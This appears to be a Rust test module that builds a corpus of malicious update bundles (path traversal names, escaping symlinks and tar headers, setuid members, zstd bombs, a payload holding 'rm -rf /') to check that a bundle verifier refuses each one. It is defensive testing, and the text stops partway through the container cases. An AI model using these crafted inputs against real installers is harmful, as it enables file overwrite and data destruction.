//! The attack corpus: crafted bundles, each with the refusal it must get.
//!
//! Every case is run (by `tests/tests/attacks.rs`) through `bundle-verifier
//! verify`, `verify --deep` and `apply` into a populated instrument root, and
//! must end with the expected exit code and message, no panic, nothing
//! written outside the state directory's staging area, and the root
//! byte-identical. The corpus can also be written to disk with
//! `cargo run -p e2e-tests --bin attack-corpus -- DIR` (seeds for fuzzing).

use std::path::Path;

use bundle_keys::signing::{FileKey, Signer};
use bundle_keys::SignatureBytes;
use bundle_verifier::format::envelope::{
    canonical_header, BLOCK, FORMAT_MARKER, MEMBER_FORMAT, MEMBER_MANIFEST, MEMBER_PAYLOAD,
    MEMBER_SIGNATURES,
};
use bundle_verifier::format::payload::blob_member_name;
use serde_json::{json, Value};

use crate::craft::{self, *};

pub mod sets;

/// The kinds of attack, one end-to-end test each.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Threat {
    /// Paths that climb out of the root or mean something else on Windows.
    PathTraversal,
    /// Symlinks, hard links, devices, FIFOs and other non-file members in the payload.
    LinksAndSpecialFiles,
    /// Two names for one file, one file twice, one member twice.
    Duplicates,
    /// Payload and manifest disagree on which blobs exist.
    ManifestPayloadMismatch,
    /// Declared sizes smaller or larger than the data.
    SizeLies,
    /// Decompression bombs and hostile zstd frames (TUF "endless data").
    EndlessData,
    /// Outer container: order, headers, padding, trailing bytes.
    Container,
    /// The bundle cut at every structural boundary.
    Truncation,
    /// JSON that is valid but not canonical, duplicate keys, huge or deep, unknown versions.
    ManifestEncoding,
    /// Unknown keys, forged and malleable signatures, mix-and-match (TUF).
    Signatures,
    /// Authentic, but for another model, mode, UDI-DI or version (TUF "wrong installation").
    WrongInstallation,
    /// The instrument root itself holds links or special files where the bundle writes.
    RootEscape,
    /// Revoked, expired and out-of-scope keys; trust roots rolled back, forged or forked.
    TrustRoot,
    /// An older release, or the installed one again (TUF rollback and replay).
    Downgrade,
    /// The signed SBOM changed, swapped, dropped, added unsigned, or not what the manifest says.
    Sbom,
    /// File sets (format 2) missing, unused, twice, or overlapping and clashing across layers.
    FileSets,
}

impl Threat {
    pub const ALL: [Threat; 16] = [
        Threat::PathTraversal,
        Threat::LinksAndSpecialFiles,
        Threat::Duplicates,
        Threat::ManifestPayloadMismatch,
        Threat::SizeLies,
        Threat::EndlessData,
        Threat::Container,
        Threat::Truncation,
        Threat::ManifestEncoding,
        Threat::Signatures,
        Threat::WrongInstallation,
        Threat::RootEscape,
        Threat::TrustRoot,
        Threat::Downgrade,
        Threat::Sbom,
        Threat::FileSets,
    ];
}

/// What one command must do: its exit code and a fragment of its stderr.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Expect {
    pub code: i32,
    pub says: &'static str,
}

/// `verify` accepts: shallow verification checks only the signed digest
/// of the compressed payload, so damage *inside* a signed payload is found
/// by `--deep` and `apply`.
pub const AUTHENTIC: Expect = Expect { code: 0, says: "" };

/// Prepares the instrument root (`root`) before a case; `outside` is a
/// sibling directory an escape would write into.
pub type RootSetup = fn(root: &Path, outside: &Path);

pub struct Case {
    pub name: String,
    pub threat: Threat,
    pub bundle: Vec<u8>,
    pub verify: Expect,
    pub deep: Expect,
    pub apply: Expect,
    pub root_setup: Option<RootSetup>,
    pub trust: TrustSetup,
    /// A bundle applied (successfully) before the case runs.
    pub preinstalled: Option<Vec<u8>>,
}

/// What the instrument trusts while a case runs.
#[derive(Clone, Debug)]
pub enum TrustSetup {
    /// `--trusted-key` with the corpus's trusted key (verify and apply).
    Key,
    /// This trust root is installed in `state/trust/root.json`; `verify`
    /// gets it as `--trust-root`, `apply` uses the installed one.
    Installed(Vec<u8>),
    /// As `Installed`, but both commands are also handed `given` as `--trust-root`.
    InstalledAndGiven { installed: Vec<u8>, given: Vec<u8> },
}

impl Case {
    /// Refused with exit 3 by every command, saying `says`.
    fn refused(threat: Threat, name: &str, bundle: Vec<u8>, says: &'static str) -> Case {
        let e = Expect { code: 3, says };
        Case {
            name: name.to_owned(),
            threat,
            bundle,
            verify: e,
            deep: e,
            apply: e,
            root_setup: None,
            trust: TrustSetup::Key,
            preinstalled: None,
        }
    }

    /// Authentic (the signed payload digest matches), refused by `--deep` and `apply`.
    fn refused_deep(threat: Threat, name: &str, bundle: Vec<u8>, says: &'static str) -> Case {
        let mut c = Case::refused(threat, name, bundle, says);
        c.verify = AUTHENTIC;
        c
    }

    /// Authentic and intact; `apply` ends with `code`, saying `says`.
    fn refused_apply(
        threat: Threat,
        name: &str,
        bundle: Vec<u8>,
        code: i32,
        says: &'static str,
    ) -> Case {
        let mut c = Case::refused(threat, name, bundle, says);
        c.verify = AUTHENTIC;
        c.deep = AUTHENTIC;
        c.apply = Expect { code, says };
        c
    }

    fn with_root(mut self, setup: Option<RootSetup>) -> Case {
        self.root_setup = setup;
        self
    }
}

/// The keys of the corpus: the one the instrument trusts and one it does not.
pub struct Keys {
    pub trusted: FileKey,
    pub untrusted: FileKey,
}

impl Default for Keys {
    fn default() -> Self {
        Self::new()
    }
}

impl Keys {
    pub fn new() -> Self {
        Keys {
            trusted: FileKey::generate(),
            untrusted: FileKey::generate(),
        }
    }

    /// Keys whose trusted one is given (to sign seeds with a fixed key).
    pub fn with_trusted(trusted: FileKey) -> Self {
        Keys {
            trusted,
            untrusted: FileKey::generate(),
        }
    }

    /// Writes the trusted public key (SPKI PEM) to `path`.
    pub fn write_trusted(&self, path: &Path) {
        std::fs::write(path, self.trusted.public_key().to_pem()).expect("write public key");
    }
}

/// Every case of the corpus.
pub fn all(keys: &Keys) -> Vec<Case> {
    Threat::ALL.iter().flat_map(|&t| cases(t, keys)).collect()
}

/// The cases of one threat.
pub fn cases(threat: Threat, keys: &Keys) -> Vec<Case> {
    match threat {
        Threat::PathTraversal => path_traversal(keys),
        Threat::LinksAndSpecialFiles => links_and_special_files(keys),
        Threat::Duplicates => duplicates(keys),
        Threat::ManifestPayloadMismatch => manifest_payload_mismatch(keys),
        Threat::SizeLies => size_lies(keys),
        Threat::EndlessData => endless_data(keys),
        Threat::Container => container(keys),
        Threat::Truncation => truncation(keys),
        Threat::ManifestEncoding => manifest_encoding(keys),
        Threat::Signatures => signatures_cases(keys),
        Threat::WrongInstallation => wrong_installation(keys),
        Threat::RootEscape => root_escape(keys),
        Threat::TrustRoot => trust_root(keys),
        Threat::Downgrade => downgrade(keys),
        Threat::Sbom => sbom(keys),
        Threat::FileSets => sets::file_sets(keys),
    }
}

// ---------------------------------------------------------------- helpers

/// The base release with one manifest edit, signed by the trusted key.
fn edited(keys: &Keys, edit: impl FnOnce(&mut Value)) -> Vec<u8> {
    Parts::base().edit(edit).signed_by(&keys.trusted)
}

/// The base release whose inner archive is `tar`, signed by the trusted key.
fn with_tar(keys: &Keys, tar: Vec<u8>) -> Vec<u8> {
    Parts::base().with_tar(tar).signed_by(&keys.trusted)
}

/// The base release's inner archive members, each as bytes, and their blobs.
fn base_members() -> (Parts, Vec<Vec<u8>>) {
    let p = Parts::base();
    let members = p
        .blobs
        .iter()
        .map(|(d, data)| {
            craft::member_with_header(
                &canonical_header(&blob_member_name(d), data.len() as u64),
                data,
            )
        })
        .collect();
    (p, members)
}

fn tar_of(members: &[Vec<u8>]) -> Vec<u8> {
    let mut out: Vec<u8> = members.concat();
    out.extend([0u8; 2 * BLOCK]);
    out
}

/// Sets the size of blob `i` and of every file entry that installs it.
fn set_blob_size(m: &mut Value, i: usize, size: u64) {
    let sha = m["blobs"][i]["sha256"].clone();
    m["blobs"][i]["size"] = json!(size);
    for t in m["targets"].as_array_mut().expect("targets") {
        for f in t["files"].as_array_mut().expect("files") {
            if f["sha256"] == sha {
                f["size"] = json!(size);
            }
        }
    }
}

/// The Dx target of the NextSeq, which the example identity selects.
fn dx_files(m: &mut Value) -> &mut Vec<Value> {
    m["targets"][0]["files"].as_array_mut().expect("files")
}

// ----------------------------------------------------------------- cases

fn path_traversal(keys: &Keys) -> Vec<Case> {
    let t = Threat::PathTraversal;
    let deep = "a/".repeat(40) + "x";
    let long = format!("lrm/{}", "a/".repeat(600)) + "x";
    let cases: Vec<(&str, String, &'static str)> = vec![
        (
            "dotdot_climbs_out_of_the_root",
            "../outside/pwned".into(),
            "\"..\" component",
        ),
        (
            "dotdot_in_the_middle_climbs_out",
            "lrm/../../outside/pwned".into(),
            "\"..\" component",
        ),
        ("dot_component", "./lrm/x".into(), "\"..\" component"),
        ("absolute_path", "/tmp/pwned".into(), "absolute"),
        ("unc_path", "//server/share/pwned".into(), "absolute"),
        (
            "drive_letter",
            "C:/Windows/System32/pwned.dll".into(),
            "Windows does not allow",
        ),
        ("drive_relative", "c:pwned".into(), "Windows does not allow"),
        (
            "backslash_traversal",
            "lrm\\..\\..\\outside\\pwned".into(),
            "backslash",
        ),
        ("nul_byte", "lrm/x\u{0}../../pwned".into(), "U+0000"),
        ("newline", "lrm/x\npwned".into(), "U+000A"),
        ("empty_path", String::new(), "path is empty"),
        ("empty_component", "lrm//x".into(), "empty component"),
        ("trailing_slash", "lrm/x/".into(), "empty component"),
        ("overlong_path", long, "the limit is 1024"),
        (
            "overlong_component",
            format!("lrm/{}", "a".repeat(300)),
            "the limit is 255",
        ),
        ("too_deep", deep, "nested 41 directories"),
        (
            "windows_device_name",
            "lrm/CON.txt".into(),
            "reserved device name",
        ),
        (
            "trailing_dot_stripped_by_windows",
            "lrm/bin./x".into(),
            "ends with a dot or space",
        ),
        (
            "alternate_data_stream",
            "lrm/x:$DATA".into(),
            "Windows does not allow",
        ),
        ("not_nfc", "lrm/A\u{30A}".into(), "normal form C"),
        // Names that show as something else, or as nothing, on a screen.
        (
            "bidi_override_reverses_the_shown_name",
            "lrm/bin/gpj\u{202E}exe.x".into(),
            "a bidirectional control (U+202E)",
        ),
        (
            "bidi_isolate",
            "lrm/\u{2067}bin/x".into(),
            "a bidirectional control (U+2067)",
        ),
        (
            "zero_width_space",
            "lrm/bin/lrm\u{200B}-guard".into(),
            "a zero-width character (U+200B)",
        ),
        (
            "c1_control_introduces_a_terminal_sequence",
            "lrm/x\u{9B}2J".into(),
            "a control character (U+009B)",
        ),
        (
            "soft_hyphen",
            "lrm/bin/lrm\u{AD}-guard".into(),
            "an invisible character (soft hyphen, variation selector, …) (U+00AD)",
        ),
        (
            "variation_selector",
            "lrm/x\u{FE0F}".into(),
            "an invisible character (soft hyphen, variation selector, …) (U+FE0F)",
        ),
        (
            "line_separator",
            "lrm/x\u{2028}y".into(),
            "a line or paragraph separator (U+2028)",
        ),
        (
            "byte_order_mark",
            "\u{FEFF}lrm/x".into(),
            "a byte-order mark (U+FEFF)",
        ),
        (
            "component_starts_with_a_combining_mark",
            "lrm/\u{301}x".into(),
            "starts with the combining mark U+0301",
        ),
        (
            "trailing_no_break_space",
            "lrm/bin\u{A0}/x".into(),
            "ends with U+00A0",
        ),
        (
            "trailing_ideographic_space",
            "lrm/x\u{3000}".into(),
            "ends with U+3000",
        ),
        (
            "short_name_may_alias_a_long_name_on_ntfs",
            "lrm/PROGRA~1/x".into(),
            "8.3 short name",
        ),
        (
            "short_name_with_an_extension",
            "lrm/bin/lrm~2.dll".into(),
            "8.3 short name",
        ),
        (
            "superscript_windows_device_name",
            "lrm/COM\u{B9}.log".into(),
            "reserved device name",
        ),
        (
            "character_windows_forbids",
            "lrm/what?.txt".into(),
            "Windows does not allow",
        ),
    ];
    cases
        .into_iter()
        .map(|(name, path, says)| {
            let b = edited(keys, |m| dx_files(m)[1]["path"] = json!(path));
            Case::refused(t, &format!("path_{name}"), b, says)
        })
        .collect()
}

fn links_and_special_files(keys: &Keys) -> Vec<Case> {
    use tar::EntryType as E;
    let t = Threat::LinksAndSpecialFiles;
    let (p, m) = base_members();
    let name1 = blob_member_name(&p.blobs[1].0);
    let data1 = p.blobs[1].1.clone();
    let expect1 = "expected the canonical header";
    let special = |kind: E, link: Option<&str>| {
        let h = craft::tar_header(&name1, 0, kind, link, 0o644);
        let mut tar = m[0].clone();
        tar.extend(h);
        tar.extend(m[2].clone());
        tar.extend([0u8; 2 * BLOCK]);
        tar
    };
    let mut cases = vec![
        Case::refused_deep(
            t,
            "payload_symlink_pointing_out",
            with_tar(keys, special(E::Symlink, Some("../../../outside/pwned"))),
            expect1,
        ),
        Case::refused_deep(
            t,
            "payload_hard_link_pointing_out",
            with_tar(keys, special(E::Link, Some("../../outside/secret"))),
            expect1,
        ),
        Case::refused_deep(
            t,
            "payload_char_device",
            with_tar(keys, special(E::Char, None)),
            expect1,
        ),
        Case::refused_deep(
            t,
            "payload_block_device",
            with_tar(keys, special(E::Block, None)),
            expect1,
        ),
        Case::refused_deep(
            t,
            "payload_fifo",
            with_tar(keys, special(E::Fifo, None)),
            expect1,
        ),
        Case::refused_deep(
            t,
            "payload_directory_member",
            with_tar(keys, special(E::Directory, None)),
            expect1,
        ),
    ];
    // A chain: the blob name is a link to a link that leaves the root.
    let mut chain = m[0].clone();
    chain.extend(craft::tar_header(&name1, 0, E::Symlink, Some("hop"), 0o777));
    chain.extend(craft::tar_header(
        "hop",
        0,
        E::Symlink,
        Some("../../outside"),
        0o777,
    ));
    chain.extend(m[2].clone());
    chain.extend([0u8; 2 * BLOCK]);
    cases.push(Case::refused_deep(
        t,
        "payload_symlink_chain",
        with_tar(keys, chain),
        expect1,
    ));
    // Regular members under names a naive extractor would follow.
    for (name, member_name) in [
        (
            "payload_member_named_dotdot",
            "../../outside/pwned".to_owned(),
        ),
        ("payload_member_absolute", "/tmp/pwned".to_owned()),
        (
            "payload_member_not_a_blob_name",
            "lrm/bin/lrm-guard".to_owned(),
        ),
    ] {
        let h = craft::tar_header(&member_name, data1.len() as u64, E::Regular, None, 0o644);
        let tar = tar_of(&[
            m[0].clone(),
            craft::member_with_header(&h, &data1),
            m[2].clone(),
        ]);
        cases.push(Case::refused_deep(t, name, with_tar(keys, tar), expect1));
    }
    // Header fields a canonical member never has.
    let setuid = craft::tar_header(&name1, data1.len() as u64, E::Regular, None, 0o4755);
    cases.push(Case::refused_deep(
        t,
        "payload_member_setuid",
        with_tar(
            keys,
            tar_of(&[
                m[0].clone(),
                craft::member_with_header(&setuid, &data1),
                m[2].clone(),
            ]),
        ),
        expect1,
    ));
    // GNU long name and PAX headers rename the next member.
    let long = "../".repeat(40) + "outside/pwned";
    let gnu = craft::tar_header(
        "././@LongLink",
        long.len() as u64 + 1,
        E::GNULongName,
        None,
        0o644,
    );
    let mut long_data = long.clone().into_bytes();
    long_data.push(0);
    let pax_record = format!("{} path=../../outside/pwned\n", 27 + 2);
    let pax = craft::tar_header(
        "PaxHeader/x",
        pax_record.len() as u64,
        E::XHeader,
        None,
        0o644,
    );
    for (name, prefix) in [
        (
            "payload_gnu_long_name",
            craft::member_with_header(&gnu, &long_data),
        ),
        (
            "payload_pax_path_header",
            craft::member_with_header(&pax, pax_record.as_bytes()),
        ),
    ] {
        let tar = tar_of(&[m[0].clone(), prefix, m[1].clone(), m[2].clone()]);
        cases.push(Case::refused_deep(t, name, with_tar(keys, tar), expect1));
    }
    cases
}

fn duplicates(keys: &Keys) -> Vec<Case> {
    let t = Threat::Duplicates;
    let (_, m) = base_members();
    let same_file = "name the same file";
    vec![
        Case::refused(
            t,
            "file_listed_twice",
            edited(keys, |m| {
                let f = dx_files(m)[1].clone();
                dx_files(m).push(f);
            }),
            same_file,
        ),
        Case::refused(
            t,
            "paths_equal_when_case_folded",
            edited(keys, |m| {
                let mut f = dx_files(m)[1].clone();
                f["path"] = json!("LRM/BIN/LRM-GUARD");
                dx_files(m).push(f);
            }),
            same_file,
        ),
        Case::refused(
            t,
            "paths_equal_after_unicode_compatibility_folding",
            edited(keys, |m| {
                let mut a = dx_files(m)[1].clone();
                a["path"] = json!("lrm/bin/\u{FB01}le");
                let mut b = a.clone();
                b["path"] = json!("lrm/bin/file");
                dx_files(m).push(a);
                dx_files(m).push(b);
            }),
            same_file,
        ),
        Case::refused(
            t,
            "paths_equal_after_unicode_normalisation",
            edited(keys, |m| {
                let mut a = dx_files(m)[1].clone();
                a["path"] = json!("lrm/bin/caf\u{E9}");
                let mut b = a.clone();
                b["path"] = json!("lrm/bin/cafe\u{301}");
                dx_files(m).push(a);
                dx_files(m).push(b);
            }),
            "normal form C",
        ),
        Case::refused(
            t,
            "paths_equal_only_on_ntfs_dotless_i",
            edited(keys, |m| {
                let mut f = dx_files(m)[1].clone();
                f["path"] = json!("lrm/b\u{131}n/lrm-guard");
                dx_files(m).push(f);
            }),
            "name the same file on Windows (NTFS",
        ),
        Case::refused(
            t,
            "paths_equal_only_on_ntfs_final_sigma",
            edited(keys, |m| {
                let mut a = dx_files(m)[1].clone();
                a["path"] = json!("lrm/bin/\u{3BB}\u{3CC}\u{3B3}\u{3BF}\u{3C2}");
                let mut b = a.clone();
                b["path"] = json!("lrm/bin/\u{3BB}\u{3CC}\u{3B3}\u{3BF}\u{3C3}");
                dx_files(m).push(a);
                dx_files(m).push(b);
            }),
            "name the same file on Windows (NTFS",
        ),
        Case::refused(
            t,
            "paths_equal_only_under_full_case_folding",
            edited(keys, |m| {
                let mut a = dx_files(m)[1].clone();
                a["path"] = json!("lrm/bin/stra\u{DF}e");
                let mut b = a.clone();
                b["path"] = json!("lrm/bin/STRASSE");
                dx_files(m).push(a);
                dx_files(m).push(b);
            }),
            "name the same file under Unicode case folding",
        ),
        Case::refused(
            t,
            "paths_equal_only_after_nfkc",
            edited(keys, |m| {
                let mut a = dx_files(m)[1].clone();
                a["path"] = json!("lrm/bin/tool\u{B2}");
                let mut b = a.clone();
                b["path"] = json!("lrm/bin/tool2");
                dx_files(m).push(a);
                dx_files(m).push(b);
            }),
            "name the same file after Unicode compatibility normalisation (NFKC)",
        ),
        Case::refused(
            t,
            "file_where_another_needs_a_directory_on_ntfs",
            edited(keys, |m| {
                let mut f = dx_files(m)[1].clone();
                f["path"] = json!("lrm/bin/LRM-GUARD/inner");
                dx_files(m).push(f);
            }),
            "needs it to be a directory on Windows",
        ),
        Case::refused(
            t,
            "directory_spelled_two_ways",
            edited(keys, |m| {
                let mut f = dx_files(m)[1].clone();
                f["path"] = json!("LRM/bin/other");
                dx_files(m).push(f);
            }),
            "is also spelled \"LRM\" on Windows (NTFS",
        ),
        Case::refused(
            t,
            "file_where_another_needs_a_directory",
            edited(keys, |m| {
                let mut f = dx_files(m)[1].clone();
                f["path"] = json!("lrm/bin/lrm-guard/inner");
                dx_files(m).push(f);
            }),
            "needs it to be a directory",
        ),
        Case::refused(
            t,
            "blob_listed_twice",
            edited(keys, |m| {
                let b = m["blobs"][0].clone();
                m["blobs"].as_array_mut().expect("blobs").push(b);
            }),
            "listed twice",
        ),
        Case::refused(
            t,
            "target_listed_twice",
            edited(keys, |m| {
                let t0 = m["targets"][0].clone();
                m["targets"].as_array_mut().expect("targets").push(t0);
            }),
            "appears twice",
        ),
        Case::refused_deep(
            t,
            "payload_member_twice",
            with_tar(
                keys,
                tar_of(&[m[0].clone(), m[1].clone(), m[2].clone(), m[1].clone()]),
            ),
            "holds more than the manifest lists",
        ),
    ]
}

fn manifest_payload_mismatch(keys: &Keys) -> Vec<Case> {
    let t = Threat::ManifestPayloadMismatch;
    let (_, m) = base_members();
    let extra = craft::member_with_header(
        &canonical_header(
            &blob_member_name(&bundle_verifier::format::digest::Sha256Digest::of(b"extra")),
            5,
        ),
        b"extra",
    );
    let mut nonzero_pad = m[0].clone();
    *nonzero_pad.last_mut().expect("padded") = 1;
    let mut other_content = m[1].clone();
    other_content[BLOCK] ^= 0x20;
    vec![
        Case::refused_deep(
            t,
            "payload_member_not_in_manifest",
            with_tar(
                keys,
                tar_of(&[m[0].clone(), m[1].clone(), m[2].clone(), extra]),
            ),
            "holds more than the manifest lists",
        ),
        Case::refused_deep(
            t,
            "manifest_blob_missing_from_payload",
            with_tar(keys, tar_of(&[m[0].clone(), m[2].clone()])),
            "expected the canonical header",
        ),
        Case::refused_deep(
            t,
            "payload_members_out_of_order",
            with_tar(keys, tar_of(&[m[0].clone(), m[2].clone(), m[1].clone()])),
            "expected the canonical header",
        ),
        Case::refused_deep(
            t,
            "payload_member_content_differs_from_its_digest",
            with_tar(keys, tar_of(&[m[0].clone(), other_content, m[2].clone()])),
            "has SHA-256",
        ),
        Case::refused_deep(
            t,
            "payload_member_padding_not_zero",
            with_tar(keys, tar_of(&[nonzero_pad, m[1].clone(), m[2].clone()])),
            "non-zero padding",
        ),
        Case::refused_deep(
            t,
            "payload_archive_without_end_blocks",
            with_tar(keys, [m[0].clone(), m[1].clone(), m[2].clone()].concat()),
            "ends inside the end-of-archive blocks",
        ),
        Case::refused_deep(
            t,
            "payload_archive_with_data_after_its_end",
            with_tar(keys, {
                let mut tar = tar_of(&m);
                tar.extend(vec![b'X'; BLOCK]);
                tar
            }),
            "more bytes than the manifest signs",
        ),
        Case::refused(
            t,
            "file_refers_to_a_blob_not_in_the_payload",
            edited(keys, |m| {
                dx_files(m)[1]["sha256"] = json!("ab".repeat(32));
            }),
            "that the payload does not hold",
        ),
        Case::refused(
            t,
            "blob_that_no_target_installs",
            edited(keys, |m| {
                m["blobs"]
                    .as_array_mut()
                    .expect("blobs")
                    .push(json!({"sha256": "cd".repeat(32), "size": 1}));
            }),
            "no target installs",
        ),
        Case::refused(
            t,
            "target_without_files",
            edited(keys, |m| {
                // Absent: `"files":[]` is not canonical (an empty list is
                // omitted), which would refuse the case for another reason.
                m["targets"][2]
                    .as_object_mut()
                    .expect("target")
                    .remove("files");
                // Keep every blob used, so the empty target is the only fault.
            }),
            "installs no files",
        ),
        Case::refused(
            t,
            "manifest_without_targets",
            edited(keys, |m| m["targets"] = json!([])),
            "has no targets",
        ),
    ]
}

fn size_lies(keys: &Keys) -> Vec<Case> {
    let t = Threat::SizeLies;
    let p = Parts::base();
    let n1 = p.blobs[1].1.len() as u64;
    let payload_len = p.payload.len() as u64;
    // The payload member's header and the manifest disagree with the data.
    let header_size = |size: u64, extra: &[u8]| {
        let p = Parts::base();
        let mb = p.manifest_bytes();
        let sigs = craft::signatures(&mb, &[&keys.trusted]);
        let mut out = craft::member(MEMBER_FORMAT, FORMAT_MARKER);
        out.extend(craft::member(MEMBER_MANIFEST, &mb));
        out.extend(craft::member(MEMBER_SIGNATURES, &sigs));
        out.extend(canonical_header(MEMBER_PAYLOAD, size));
        out.extend(&p.payload);
        out.extend(extra);
        out
    };
    // The inner header agrees with a manifest that understates the blob.
    let understated = {
        let (p, m) = base_members();
        let (d, data) = &p.blobs[1];
        let short = craft::member_with_header(
            &canonical_header(&blob_member_name(d), data.len() as u64 - 4),
            data,
        );
        Parts::base()
            .with_tar(tar_of(&[m[0].clone(), short, m[2].clone()]))
            .edit(|m| set_blob_size(m, 1, n1 - 4))
            .signed_by(&keys.trusted)
    };
    vec![
        Case::refused(
            t,
            "file_size_smaller_than_its_blob",
            edited(keys, |m| dx_files(m)[1]["size"] = json!(n1 - 1)),
            "bytes but its blob has",
        ),
        Case::refused(
            t,
            "file_size_larger_than_its_blob",
            edited(keys, |m| dx_files(m)[1]["size"] = json!(n1 + 1)),
            "bytes but its blob has",
        ),
        Case::refused_deep(
            t,
            "blob_declared_smaller_than_stored",
            edited(keys, |m| set_blob_size(m, 1, n1 - 1)),
            "expected the canonical header",
        ),
        Case::refused_deep(
            t,
            "blob_declared_larger_than_stored",
            edited(keys, |m| set_blob_size(m, 1, n1 + 1)),
            "expected the canonical header",
        ),
        Case::refused_deep(
            t,
            "blob_and_its_header_declared_smaller_than_the_data",
            understated,
            "has SHA-256",
        ),
        Case::refused(
            t,
            "payload_header_larger_than_signed",
            header_size(payload_len + 1, &[0u8; 3 * BLOCK]),
            "but the signed manifest says",
        ),
        Case::refused(
            t,
            "payload_header_smaller_than_signed",
            header_size(payload_len - 1, &[0u8; 3 * BLOCK]),
            "but the signed manifest says",
        ),
        Case::refused(
            t,
            "payload_size_signed_larger_than_the_data",
            edited(keys, |m| m["payload"]["size"] = json!(payload_len + 700)),
            "but the signed manifest says",
        ),
        Case::refused(
            t,
            "payload_size_signed_as_a_terabyte",
            {
                let p = Parts::base().edit(|m| m["payload"]["size"] = json!(1u64 << 40));
                let mb = p.manifest_bytes();
                let sigs = craft::signatures(&mb, &[&keys.trusted]);
                let mut out = craft::member(MEMBER_FORMAT, FORMAT_MARKER);
                out.extend(craft::member(MEMBER_MANIFEST, &mb));
                out.extend(craft::member(MEMBER_SIGNATURES, &sigs));
                out.extend(canonical_header(MEMBER_PAYLOAD, 1 << 40));
                out.extend(&p.payload);
                out
            },
            "truncated",
        ),
        Case::refused(
            t,
            "total_size_over_the_limit",
            edited(keys, |m| set_blob_size(m, 0, 1 << 40)),
            "total payload bytes",
        ),
        Case::refused(
            t,
            "total_size_overflows_u64",
            edited(keys, |m| {
                set_blob_size(m, 0, u64::MAX);
                set_blob_size(m, 1, u64::MAX);
            }),
            "total payload bytes",
        ),
    ]
}

fn endless_data(keys: &Keys) -> Vec<Case> {
    let t = Threat::EndlessData;
    let p = Parts::base();
    // 1 GiB of zeros after the honest archive, in about 32 KiB of zstd.
    let bomb = craft::zstd_frame_by_hand(&p.tar, 1 << 30, 17);
    let huge_window = craft::zstd_frame_by_hand(&p.tar, 0, 31);
    // Single-segment frame whose declared content size (1 TiB) is its window.
    let mut fcs = vec![0x28, 0xB5, 0x2F, 0xFD, 0xE0];
    fcs.extend((1u64 << 40).to_le_bytes());
    fcs.extend(&craft::zstd_frame_by_hand(&p.tar, 0, 17)[6..]);
    let checksum_broken = {
        let mut c = zstd::bulk::Compressor::new(3).expect("zstd");
        c.include_checksum(true).expect("zstd");
        let mut z = c.compress(&p.tar).expect("zstd");
        let n = z.len();
        z[n - 1] ^= 0xff;
        z
    };
    let truncated_frame = p.payload[..p.payload.len() - 8].to_vec();
    let unsigned_bomb = {
        let honest = Parts::base();
        let mb = honest.manifest_bytes();
        craft::container(&mb, &craft::signatures(&mb, &[&keys.trusted]), &bomb)
    };
    let with = |payload: Vec<u8>| Parts::base().with_payload(payload).signed_by(&keys.trusted);
    vec![
        Case::refused_deep(
            t,
            "zstd_bomb_signed",
            with(bomb.clone()),
            "more bytes than the manifest signs",
        ),
        Case::refused(
            t,
            "zstd_bomb_in_place_of_the_signed_payload",
            unsigned_bomb,
            "but the signed manifest says",
        ),
        Case::refused_deep(
            t,
            "zstd_frame_demands_a_2_gib_window",
            with(huge_window),
            "Frame requires too much memory",
        ),
        Case::refused_deep(
            t,
            "zstd_frame_declares_a_terabyte_single_segment",
            with(fcs),
            "Frame requires too much memory",
        ),
        Case::refused_deep(
            t,
            "zstd_content_checksum_wrong",
            with(checksum_broken),
            "zstd",
        ),
        Case::refused_deep(
            t,
            "zstd_frame_cut_short",
            with(truncated_frame),
            "payload is malformed",
        ),
        Case::refused_deep(
            t,
            "payload_not_compressed",
            with(p.tar.clone()),
            "Unknown frame descriptor",
        ),
        Case::refused(
            t,
            "payload_compression_not_zstd",
            edited(keys, |m| m["payload"]["compression"] = json!("gzip")),
            "only \"zstd\" is defined",
        ),
    ]
}

fn container(keys: &Keys) -> Vec<Case> {
    let t = Threat::Container;
    let good = Parts::base().signed_by(&keys.trusted);
    let p = Parts::base();
    let mb = p.manifest_bytes();
    let sigs = craft::signatures(&mb, &[&keys.trusted]);
    let plus = |extra: &[u8]| {
        let mut b = good.clone();
        b.extend(extra);
        b
    };
    let swapped = {
        let mut out = craft::member(MEMBER_FORMAT, FORMAT_MARKER);
        out.extend(craft::member(MEMBER_SIGNATURES, &sigs));
        out.extend(craft::member(MEMBER_MANIFEST, &mb));
        out.extend(craft::member(MEMBER_PAYLOAD, &p.payload));
        out.extend([0u8; 2 * BLOCK]);
        out
    };
    let fifth_member = {
        let mut out = good[..good.len() - 2 * BLOCK].to_vec();
        out.extend(craft::member("evil.sh", b"rm -rf /\n"));
        out.extend([0u8; 2 * BLOCK]);
        out
    };
    let mtime = {
        let mut b = good.clone();
        let mut h = tar::Header::from_byte_slice(&b[BLOCK * 2..BLOCK * 3]).clone();
        h.set_mtime(1_650_000_000);
        h.set_cksum();
        b[BLOCK * 2..BLOCK * 3].copy_from_slice(h.as_bytes());
        b
    };
    let manifest_symlink = {
        let mut b = good.clone();
        let mut h = tar::Header::from_byte_slice(&b[BLOCK * 2..BLOCK * 3]).clone();
        h.set_entry_type(tar::EntryType::Symlink);
        h.set_cksum();
        b[BLOCK * 2..BLOCK * 3].copy_from_slice(h.as_bytes());
        b
    };
    let manifest_padding = {
        let mut b = good.clone();
        let at = 3 * BLOCK + mb.len();
        assert!(
            !mb.len().is_multiple_of(BLOCK),
            "the base manifest has padding"
        );
        b[at] = b'x';
        b
    };
    let with_marker = |marker: &[u8]| {
        let mut out = craft::member(MEMBER_FORMAT, marker);
        out.extend_from_slice(&good[2 * BLOCK..]);
        out
    };
    let mut plain_tar = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_size(4);
    h.set_mode(0o644);
    h.set_cksum();
    plain_tar
        .append_data(&mut h, "format", &b"evil"[..])
        .expect("tar");
    let plain_tar = plain_tar.into_inner().expect("tar");
    vec![
        Case::refused(
            t,
            "trailing_garbage",
            plus(b"#!/bin/sh\nrm -rf /\n"),
            "unexpected data after the end",
        ),
        Case::refused(
            t,
            "trailing_zero_block",
            plus(&[0u8; BLOCK]),
            "unexpected data after the end",
        ),
        Case::refused(
            t,
            "fifth_member_after_the_payload",
            fifth_member,
            "unexpected data after the end",
        ),
        Case::refused(
            t,
            "members_in_the_wrong_order",
            swapped,
            "not the canonical one",
        ),
        Case::refused(
            t,
            "member_header_with_an_mtime",
            mtime,
            "not the canonical one",
        ),
        Case::refused(
            t,
            "manifest_member_is_a_symlink",
            manifest_symlink,
            "not the canonical one",
        ),
        Case::refused(
            t,
